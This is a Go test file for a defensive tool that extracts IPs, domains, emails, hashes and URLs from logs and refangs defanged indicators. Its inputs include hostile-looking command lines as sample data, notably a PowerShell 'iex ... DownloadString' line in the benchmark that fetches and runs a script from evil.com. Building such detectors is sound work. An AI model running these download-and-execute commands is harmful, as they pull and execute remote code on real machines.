package ioc

import (
	"slices"
	"strings"
	"testing"
)

var texts = []struct {
	name, in string
	want     []string
}{
	{"nothing", "Failed password for root", nil},
	{"empty", "", nil},
	{"address", "Failed password for root from 203.0.113.7 port 4711 ssh2", []string{"ip 203.0.113.7"}},
	{"end of sentence", "It called evil.com. Then 203.0.113.7.", []string{"domain evil.com", "ip 203.0.113.7"}},
	{"port", "evil.com:8080 203.0.113.7:443 [2001:db8::1]:443", []string{"domain evil.com", "ip 203.0.113.7", "ip 2001:db8::1"}},
	{"mapped", "from ::ffff:203.0.113.7 to", []string{"ip 203.0.113.7"}},
	{"setting", "SRC=203.0.113.7 DST=198.51.100.2,", []string{"ip 203.0.113.7", "ip 198.51.100.2"}},
	{"user and host", "ssh root@203.0.113.7", []string{"ip 203.0.113.7"}},
	{"mail", "from=<Bob@Evil.example>, mailto:eve@evil.example", []string{"email bob@evil.example", "email eve@evil.example"}},
	{"hashes", "MD5=44D88612FEA8A8F36DE82E1278ABB02F,SHA1=3395856ce81f2b7382dee72602f798b642f14140 sha256:275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f",
		[]string{"md5 44d88612fea8a8f36de82e1278abb02f", "sha1 3395856ce81f2b7382dee72602f798b642f14140", "sha256 275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f"}},

	{"URL in code", "DownloadString('http://evil.com/a.ps1');x", []string{"url http://evil.com/a.ps1"}},
	{"URL in parentheses", "(see http://evil.com/a_(b)/c)", []string{"url http://evil.com/a_(b)/c"}},
	{"URL as argument", "url=http://evil.com/a?b=c&d&& rm", []string{"url http://evil.com/a?b=c&d"}},
	{"URL at the end of a sentence", "Get https://evil.com/a.", []string{"url https://evil.com/a"}},
	{"URL of an address", `curl "http://[2001:db8::1]:8080/x" -o y`, []string{"url http://[2001:db8::1]:8080/x"}},
	{"URL after a label", "url:http://evil.com/x", []string{"url http://evil.com/x"}},
	{"URL of the intranet", "http://intranet/evil.com/x", nil},
	{"URL without scheme", "evil.com/a.exe transfer.sh/x", []string{"domain evil.com", "domain transfer.sh"}},

	{"defanged URL", "hxxps[:]//evil[.]com/a hXXp://evil(.)org[/]b fxp://evil{.}net", []string{"url https://evil.com/a", "url http://evil.org/b", "url ftp://evil.net"}},
	{"defanged in full", "hxxp[://]evil[dot]com", []string{"url http://evil.com"}},
	{"defanged address", "203.0.113[.]7 198[.]51[.]100[.]2", []string{"ip 203.0.113.7", "ip 198.51.100.2"}},
	{"defanged mail", "bob[@]evil[.]com eve(at)evil(dot)com", []string{"email bob@evil.com", "email eve@evil.com"}},
	{"brackets of code", "a[0] (x) f(.) {}", nil},

	{"Windows path", `C:\\Users\\evil.com\\203.0.113.7\\x.dll C:\tmp\evil.com`, nil},
	{"Unix path", "/home/u/eicar.com /opt/app/203.0.113.7/bin /eicar.com", nil},
	{"share", `net use \\203.0.113.7\c$ \\\\evil.com\\x`, []string{"ip 203.0.113.7", "domain evil.com"}},
	{"Java's address", "peer=/203.0.113.7:443", []string{"ip 203.0.113.7"}},
	{"product", "Mozilla/5.0 Chrome/119.0.0.0 Safari/537.36", nil},
	{"version", `Version=4.0.0.0, FileVersion: 5.1.2.3 "version":"7.1.2.3" v1.2.3.4 Foundation 4.0.0.0\\Linkage`, nil},
	{"file", "setup.zip run.sh a.py libc-1.2.so readme.md invoice.exe", nil},
	{"code", "[System.IO.File]::Open $env.name $_.Name Console.Out obj.name(1) net.name=1", nil},
	{"key of JSON", `{"aws.id":"evil.com"}`, []string{"domain evil.com"}},
	{"placeholder", "{data.scan.id}", nil},
	{"capitals", "EVIL.COM evil.com Evil.Com", []string{"domain evil.com", "domain evil.com"}},
	{"escapes", "%2Fevil.com%2f http%3A%2F%2Fevil.com", nil},
	{"not ASCII", "évil.com evil.comé", nil},
	{"time and MAC", "12:30:45 00:1b:44:11:3a:b7 a::b std::io ::", nil},
	{"hidden", "evil\u200b.com evil\x00.com", nil},
}

func TestText(t *testing.T) {
	for _, test := range texts {
		var b Buffer
		var got []string
		b.Text([]byte(test.in), func(i Indicator) { got = append(got, i.String()) })
		if !slices.Equal(got, test.want) {
			t.Errorf("%s: %s\n got %q\nwant %q", test.name, test.in, got, test.want)
		}
	}
}

func TestTextDoesNotAllocate(t *testing.T) {
	b := Buffer{text: make([]byte, 0, 1<<12), free: make([]byte, 0, 1<<12)}
	found := func(Indicator) {}
	for _, test := range texts {
		raw := []byte(test.in)
		if n := testing.AllocsPerRun(10, func() { b.Text(raw, found); b.Reset() }); n != 0 {
			t.Errorf("%s: %v allocations", test.name, n)
		}
	}
}

func TestRefang(t *testing.T) {
	for in, want := range map[string]string{
		"hxxp://evil[.]example":  "http://evil.example",
		"HXXPS[:]//evil(dot)com": "httpS://evil.com",
		"h**p://evil.com":        "http://evil.com",
		"203.0.113[.]7[:]443":    "203.0.113.7:443",
		"http://evil.example":    "http://evil.example",
		"hxxp is a word":         "hxxp is a word",
		"[x](y)":                 "[x](y)",
		"[":                      "[",
	} {
		if got := Refang(in); got != want {
			t.Errorf("%q: got %q, want %q", in, got, want)
		}
	}
}

func BenchmarkText(b *testing.B) {
	line := `cmd /c powershell -c "iex (New-Object Net.WebClient).DownloadString('hxxp://evil[.]com/a.ps1')" & ping 203.0.113.7 > C:\Users\Public\out.txt `
	for name, text := range map[string]string{"line": line, "60kB": strings.Repeat(line, 60000/len(line))} {
		b.Run(name, func(b *testing.B) {
			b.ReportAllocs()
			b.SetBytes(int64(len(text)))
			raw, found := []byte(text), func(Indicator) {}
			var buf Buffer
			for b.Loop() {
				buf.Reset()
				buf.Text(raw, found)
			}
		})
	}
}
